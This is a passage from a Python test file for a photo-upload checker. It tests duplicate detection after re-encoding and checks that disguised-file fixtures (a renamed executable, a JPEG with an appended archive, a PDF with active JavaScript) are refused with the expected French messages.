    assert recent_duplicates(session, other.id, [recent, others], now=NOW) == [others]
    assert recent_duplicates(session, lea.id, [], now=NOW) == []


def test_a_photo_sent_again_is_recognised_after_re_encoding(session):
    lea = make_member(session)
    photo = jpeg(exif=camera_exif())
    first = check_uploads([("IMG_1.jpg", photo)])[0]
    stored = storage.store_bytes(session, first.data, filename=first.filename, content_type=first.content_type,
                                 member_id=lea.id, now=NOW - timedelta(days=3))
    session.commit()
    assert session.get(StoredFile, stored.id).member_id == lea.id
    again = check_uploads([("IMG_1 copie.jpg", photo)])
    assert recent_duplicates(session, lea.id, again, now=NOW) == again


# --- fixtures on disk -------------------------------------------------------------------------------------

def test_the_byte_fixtures_are_refused_as_the_catalogue_says():
    expected = {
        "elf-renamed.png": "est un programme ou un script",
        "jpeg-then-zip.jpg": "un autre fichier ou du code caché",
        "pdf-openaction-javascript.pdf": "contient des éléments actifs",
    }
    for name, words in expected.items():
        assert words in refused(name, (DATA / name).read_bytes()).message, name
